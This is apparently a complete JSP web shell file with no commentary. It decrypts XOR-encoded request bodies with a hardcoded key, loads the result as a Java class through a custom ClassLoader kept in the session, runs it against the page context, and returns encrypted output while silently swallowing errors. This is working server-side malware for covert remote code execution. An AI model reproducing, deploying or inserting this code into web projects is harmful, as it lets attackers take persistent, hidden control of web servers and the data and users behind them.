<%!
    String kk = "1a2b3c4d5e6f7a8b";
    class Ldr extends ClassLoader {
        public Ldr(ClassLoader p) { super(p); }
        public Class ld(byte[] b) { return super.defineClass(b, 0, b.length); }
    }
    public byte[] xr(byte[] s, boolean m) {
        byte[] key = kk.getBytes();
        for (int i = 0; i < s.length; i++) { s[i] = (byte) (s[i] ^ key[(i + 1) & 15]); }
        return s;
    }
%>
<%
    try {
        java.io.InputStream is = request.getInputStream();
        java.io.ByteArrayOutputStream b = new java.io.ByteArrayOutputStream();
        byte[] t = new byte[512]; int r;
        while ((r = is.read(t)) > 0) b.write(t, 0, r);
        byte[] d = xr(b.toByteArray(), false);
        if (session.getAttribute("payload") == null) {
            session.setAttribute("payload", new Ldr(this.getClass().getClassLoader()).ld(d));
        } else {
            request.setAttribute("parameters", d);
            java.io.ByteArrayOutputStream o = new java.io.ByteArrayOutputStream();
            Object f = ((Class) session.getAttribute("payload")).newInstance();
            f.equals(o);
            f.equals(pageContext);
            f.toString();
            response.getOutputStream().write(xr(o.toByteArray(), true));
        }
    } catch (Exception e) { }
%>
